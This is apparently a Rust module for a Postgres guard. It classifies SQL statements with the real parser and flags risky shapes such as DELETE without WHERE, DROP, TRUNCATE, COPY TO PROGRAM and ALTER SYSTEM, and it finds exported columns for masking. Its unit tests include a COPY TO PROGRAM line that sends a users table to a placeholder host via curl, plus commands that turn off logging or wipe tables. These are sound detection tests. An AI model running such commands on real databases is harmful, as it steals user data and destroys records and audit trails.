//! Statement classification with the real Postgres parser (libpg_query,
//! through the `pg_query` crate): a query string is split into its
//! statements, and each gets a class, the shapes rules block by name, and
//! the tables it touches. What the parser refuses is reported as such;
//! the policy decides what that means (fail closed under blocking rules).
use std::{
    collections::{HashMap, VecDeque},
    sync::{Arc, Mutex, OnceLock},
};

use pg_query::NodeEnum;

use crate::record::statement::{Shape, SqlFacts, StatementClass};

/// One statement of a query string: its text and what it is.
#[derive(Debug, Clone)]
pub struct Classified {
    pub text: String,
    pub facts: SqlFacts,
}

/// Splits a simple-protocol query string into statements (as the server
/// will run them) and classifies each. One parse for the common case of
/// one statement; a string the parser refuses stays whole, with the error.
pub fn split(sql: &str) -> Vec<Classified> {
    if let Some(hit) = cache().get(sql) {
        return hit.to_vec();
    }
    let out = split_uncached(sql);
    cache().put(sql, &out);
    out
}

/// Statements repeat (BEGIN, COMMIT, an ORM's queries): their facts are
/// kept for the next time, keyed by the exact text, bounded.
const CACHE_ENTRIES: usize = 2048;
const CACHE_MAX_SQL: usize = 4096;

#[derive(Default)]
struct Cache {
    map: HashMap<Arc<str>, Arc<[Classified]>>,
    order: VecDeque<Arc<str>>,
}

struct Shared(Mutex<Cache>);

impl Shared {
    fn get(&self, sql: &str) -> Option<Arc<[Classified]>> {
        if sql.len() > CACHE_MAX_SQL {
            return None;
        }
        self.0
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .map
            .get(sql)
            .cloned()
    }

    fn put(&self, sql: &str, v: &[Classified]) {
        if sql.len() > CACHE_MAX_SQL {
            return;
        }
        let mut c = self.0.lock().unwrap_or_else(|e| e.into_inner());
        if c.map.len() >= CACHE_ENTRIES {
            if let Some(old) = c.order.pop_front() {
                c.map.remove(&old);
            }
        }
        let key: Arc<str> = sql.into();
        if c.map.insert(key.clone(), v.into()).is_none() {
            c.order.push_back(key);
        }
    }
}

fn cache() -> &'static Shared {
    static CACHE: OnceLock<Shared> = OnceLock::new();
    CACHE.get_or_init(|| Shared(Mutex::new(Cache::default())))
}

fn split_uncached(sql: &str) -> Vec<Classified> {
    let parsed = match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
        Ok(p) => p,
        Err(e) => {
            return vec![Classified {
                text: sql.to_owned(),
                facts: SqlFacts {
                    parse_error: Some(e.to_string()),
                    ..SqlFacts::default()
                },
            }]
        }
    };
    match parsed.protobuf.stmts.len() {
        0 => Vec::new(),
        1 => vec![Classified {
            text: sql.to_owned(),
            facts: facts_of(&parsed),
        }],
        _ => parsed
            .protobuf
            .stmts
            .iter()
            .map(|raw| {
                // Locations are byte offsets; a length of 0 means "to the end".
                let start = usize::try_from(raw.stmt_location)
                    .unwrap_or(0)
                    .min(sql.len());
                let end = match usize::try_from(raw.stmt_len).unwrap_or(0) {
                    0 => sql.len(),
                    n => (start + n).min(sql.len()),
                };
                let text = sql.get(start..end).unwrap_or(sql).trim();
                Classified {
                    text: text.to_owned(),
                    facts: classify(text),
                }
            })
            .collect(),
    }
}

/// Facts about one statement (a query string holding several is judged
/// by its most dangerous: every shape and table, the first class).
pub fn classify(sql: &str) -> SqlFacts {
    if let Some(hit) = cache().get(sql) {
        if let [one] = &hit[..] {
            return one.facts.clone();
        }
    }
    match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
        Ok(p) => facts_of(&p),
        Err(e) => SqlFacts {
            parse_error: Some(e.to_string()),
            ..SqlFacts::default()
        },
    }
}

fn facts_of(parsed: &pg_query::ParseResult) -> SqlFacts {
    let mut facts = SqlFacts::default();
    for raw in &parsed.protobuf.stmts {
        let Some(node) = raw.stmt.as_ref().and_then(|n| n.node.as_ref()) else {
            continue;
        };
        let (class, shapes) = describe(node);
        facts.class.get_or_insert(class);
        for s in shapes {
            if !facts.shapes.contains(&s) {
                facts.shapes.push(s);
            }
        }
    }
    let mut tables: Vec<String> = parsed
        .tables()
        .into_iter()
        .map(|t| t.to_ascii_lowercase())
        .collect();
    tables.sort();
    tables.dedup();
    facts.tables = tables;
    facts
}

/// Column names of a `COPY ... TO STDOUT` in text format, in order, when
/// the statement itself names them (a column list, or a query whose
/// columns are plain column references or aliased). `None` when the node
/// cannot tell (CSV or binary format, `COPY table TO` without a list,
/// computed columns): column masking then covers every value.
pub fn copy_out_columns(sql: &str) -> Option<Vec<String>> {
    let parsed = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).ok()?;
    let node = parsed
        .protobuf
        .stmts
        .first()?
        .stmt
        .as_ref()?
        .node
        .as_ref()?;
    let NodeEnum::CopyStmt(c) = node else {
        return None;
    };
    if c.is_from {
        return None;
    }
    for o in &c.options {
        if let Some(NodeEnum::DefElem(d)) = &o.node {
            let arg = d.arg.as_ref().and_then(|a| match &a.node {
                Some(NodeEnum::String(s)) => Some(s.sval.to_ascii_lowercase()),
                _ => None,
            });
            if d.defname == "format" && arg.as_deref() != Some("text") {
                return None;
            }
        }
    }
    if !c.attlist.is_empty() {
        return c
            .attlist
            .iter()
            .map(|n| match &n.node {
                Some(NodeEnum::String(s)) => Some(s.sval.clone()),
                _ => None,
            })
            .collect();
    }
    let Some(NodeEnum::SelectStmt(q)) = c.query.as_ref().and_then(|q| q.node.as_ref()) else {
        return None;
    };
    q.target_list
        .iter()
        .map(|t| {
            let Some(NodeEnum::ResTarget(r)) = &t.node else {
                return None;
            };
            if !r.name.is_empty() {
                return Some(r.name.clone());
            }
            match r.val.as_ref().and_then(|v| v.node.as_ref()) {
                Some(NodeEnum::ColumnRef(cr)) => {
                    match cr.fields.last().and_then(|f| f.node.as_ref()) {
                        Some(NodeEnum::String(s)) => Some(s.sval.clone()),
                        _ => None,
                    }
                }
                _ => None,
            }
        })
        .collect()
}

fn describe(node: &NodeEnum) -> (StatementClass, Vec<Shape>) {
    use StatementClass as C;
    match node {
        NodeEnum::SelectStmt(s) => {
            if s.into_clause.is_some() {
                (C::Write, vec![])
            } else {
                (C::Read, vec![])
            }
        }
        NodeEnum::InsertStmt(_) | NodeEnum::MergeStmt(_) => (C::Write, vec![]),
        NodeEnum::UpdateStmt(u) => (
            C::Write,
            if u.where_clause.is_none() {
                vec![Shape::UpdateWithoutWhere]
            } else {
                vec![]
            },
        ),
        NodeEnum::DeleteStmt(d) => (
            C::Write,
            if d.where_clause.is_none() {
                vec![Shape::DeleteWithoutWhere]
            } else {
                vec![]
            },
        ),
        NodeEnum::CopyStmt(c) => (
            C::Copy,
            if c.is_program {
                vec![Shape::CopyProgram]
            } else {
                vec![]
            },
        ),
        // What runs is the inner statement: judge it (EXPLAIN ANALYZE of
        // a DELETE deletes; PREPARE ... AS DELETE is run later by EXECUTE).
        NodeEnum::ExplainStmt(e) => inner(e.query.as_deref(), C::Read),
        NodeEnum::PrepareStmt(p) => inner(p.query.as_deref(), C::Session),
        NodeEnum::CreateTableAsStmt(_) => (C::Ddl, vec![]),
        NodeEnum::DropStmt(_) | NodeEnum::DropdbStmt(_) | NodeEnum::DropTableSpaceStmt(_) => {
            (C::Ddl, vec![Shape::Drop])
        }
        NodeEnum::DropRoleStmt(_) | NodeEnum::DropOwnedStmt(_) => (C::Dcl, vec![Shape::Drop]),
        NodeEnum::TruncateStmt(_) => (C::Ddl, vec![Shape::Truncate]),
        NodeEnum::AlterSystemStmt(_) => (C::Admin, vec![Shape::AlterSystem]),
        NodeEnum::GrantStmt(_)
        | NodeEnum::GrantRoleStmt(_)
        | NodeEnum::CreateRoleStmt(_)
        | NodeEnum::AlterRoleStmt(_)
        | NodeEnum::AlterRoleSetStmt(_)
        | NodeEnum::AlterDefaultPrivilegesStmt(_)
        | NodeEnum::ReassignOwnedStmt(_)
        | NodeEnum::CreateUserMappingStmt(_)
        | NodeEnum::AlterUserMappingStmt(_)
        | NodeEnum::DropUserMappingStmt(_) => (C::Dcl, vec![]),
        NodeEnum::TransactionStmt(_) => (C::Transaction, vec![]),
        NodeEnum::VariableSetStmt(_)
        | NodeEnum::VariableShowStmt(_)
        | NodeEnum::DiscardStmt(_)
        | NodeEnum::ListenStmt(_)
        | NodeEnum::UnlistenStmt(_)
        | NodeEnum::NotifyStmt(_)
        | NodeEnum::DeallocateStmt(_)
        | NodeEnum::ExecuteStmt(_)
        | NodeEnum::DeclareCursorStmt(_)
        | NodeEnum::FetchStmt(_)
        | NodeEnum::ClosePortalStmt(_)
        | NodeEnum::LockStmt(_)
        | NodeEnum::ConstraintsSetStmt(_) => (C::Session, vec![]),
        NodeEnum::VacuumStmt(_)
        | NodeEnum::CheckPointStmt(_)
        | NodeEnum::LoadStmt(_)
        | NodeEnum::ClusterStmt(_)
        | NodeEnum::ReindexStmt(_)
        | NodeEnum::RefreshMatViewStmt(_) => (C::Admin, vec![]),
        NodeEnum::CallStmt(_) | NodeEnum::DoStmt(_) => (C::Procedure, vec![]),
        n if is_ddl(n) => (C::Ddl, vec![]),
        _ => (C::Other, vec![]),
    }
}

fn inner(
    query: Option<&pg_query::protobuf::Node>,
    default: StatementClass,
) -> (StatementClass, Vec<Shape>) {
    match query.and_then(|n| n.node.as_ref()) {
        Some(n) => {
            let (class, shapes) = describe(n);
            (
                if class == StatementClass::Read {
                    default
                } else {
                    class
                },
                shapes,
            )
        }
        None => (default, vec![]),
    }
}

/// CREATE / ALTER / COMMENT / RENAME and friends.
fn is_ddl(n: &NodeEnum) -> bool {
    matches!(
        n,
        NodeEnum::CreateStmt(_)
            | NodeEnum::CreateSchemaStmt(_)
            | NodeEnum::AlterTableStmt(_)
            | NodeEnum::IndexStmt(_)
            | NodeEnum::ViewStmt(_)
            | NodeEnum::CreateFunctionStmt(_)
            | NodeEnum::AlterFunctionStmt(_)
            | NodeEnum::CreateSeqStmt(_)
            | NodeEnum::AlterSeqStmt(_)
            | NodeEnum::CreateExtensionStmt(_)
            | NodeEnum::AlterExtensionStmt(_)
            | NodeEnum::CreatedbStmt(_)
            | NodeEnum::AlterDatabaseStmt(_)
            | NodeEnum::AlterDatabaseSetStmt(_)
            | NodeEnum::RenameStmt(_)
            | NodeEnum::CommentStmt(_)
            | NodeEnum::RuleStmt(_)
            | NodeEnum::CreateTrigStmt(_)
            | NodeEnum::CreateEventTrigStmt(_)
            | NodeEnum::CreateEnumStmt(_)
            | NodeEnum::CompositeTypeStmt(_)
            | NodeEnum::DefineStmt(_)
            | NodeEnum::AlterObjectSchemaStmt(_)
            | NodeEnum::AlterOwnerStmt(_)
            | NodeEnum::CreatePolicyStmt(_)
            | NodeEnum::AlterPolicyStmt(_)
            | NodeEnum::CreateTableSpaceStmt(_)
            | NodeEnum::CreateForeignTableStmt(_)
            | NodeEnum::CreatePublicationStmt(_)
            | NodeEnum::CreateSubscriptionStmt(_)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classes_shapes_and_tables_from_the_parse_tree() {
        let f = classify("SELECT email FROM public.users u JOIN orders o ON o.uid = u.id");
        assert_eq!(f.class, Some(StatementClass::Read));
        assert_eq!(f.tables, vec!["orders", "public.users"]);

        let f = classify("delete from users");
        assert_eq!(f.class, Some(StatementClass::Write));
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere]);
        assert!(classify("DELETE FROM users WHERE id = $1")
            .shapes
            .is_empty());
        assert_eq!(
            classify("UPDATE accounts SET balance = 0").shapes,
            vec![Shape::UpdateWithoutWhere]
        );
        // A comment or a string that looks like WHERE does not fool it.
        assert_eq!(
            classify("DELETE FROM users -- WHERE id = 1").shapes,
            vec![Shape::DeleteWithoutWhere]
        );
        assert_eq!(classify("DROP TABLE users").shapes, vec![Shape::Drop]);
        assert_eq!(classify("truncate audit_log").shapes, vec![Shape::Truncate]);
        assert_eq!(
            classify("COPY users TO PROGRAM 'curl -d @- http://x'").shapes,
            vec![Shape::CopyProgram]
        );
        assert_eq!(
            classify("ALTER SYSTEM SET log_statement = 'none'").shapes,
            vec![Shape::AlterSystem]
        );
        assert_eq!(
            classify("GRANT ALL ON users TO public").class,
            Some(StatementClass::Dcl)
        );
        assert_eq!(classify("BEGIN").class, Some(StatementClass::Transaction));
        assert_eq!(
            classify("CREATE TABLE t (a int)").class,
            Some(StatementClass::Ddl)
        );
        let f = classify("EXPLAIN ANALYZE DELETE FROM users");
        assert_eq!(
            (f.class, f.shapes),
            (Some(StatementClass::Write), vec![Shape::DeleteWithoutWhere])
        );
        let f = classify("PREPARE p AS DELETE FROM users");
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere]);

        let f = classify("SELEC * FRM users");
        assert!(f.parse_error.is_some());
        assert_eq!(f.class, None);
    }

    #[test]
    fn copy_out_columns_when_the_statement_names_them() {
        let cols = |s: &str| copy_out_columns(s);
        assert_eq!(
            cols("COPY (SELECT name, u.email AS mail, note FROM users u) TO STDOUT"),
            Some(vec!["name".into(), "mail".into(), "note".into()])
        );
        assert_eq!(
            cols("COPY users (name, email) TO STDOUT"),
            Some(vec!["name".into(), "email".into()])
        );
        assert_eq!(cols("COPY users TO STDOUT"), None);
        assert_eq!(cols("COPY (SELECT * FROM users) TO STDOUT"), None);
        assert_eq!(
            cols("COPY (SELECT lower(email) FROM users) TO STDOUT"),
            None
        );
        assert_eq!(cols("COPY users (name) TO STDOUT WITH (FORMAT csv)"), None);
        assert_eq!(cols("COPY users (name) FROM STDIN"), None);
    }

    #[test]
    fn a_query_string_is_split_per_statement() {
        let parts = split("select 1; DELETE FROM users; select ';' as x");
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[1].text, "DELETE FROM users");
        assert_eq!(parts[1].facts.shapes, vec![Shape::DeleteWithoutWhere]);
        assert_eq!(parts[2].facts.class, Some(StatementClass::Read));
        assert_eq!(split("select 1").len(), 1);
        // A second time from the cache, the same.
        let again = split("select 1; DELETE FROM users; select ';' as x");
        assert_eq!(again[1].facts, parts[1].facts);
        assert_eq!(classify("select 1").class, Some(StatementClass::Read));
        assert!(split("").is_empty());
        assert!(split("select (")
            .first()
            .unwrap()
            .facts
            .parse_error
            .is_some());
    }
}
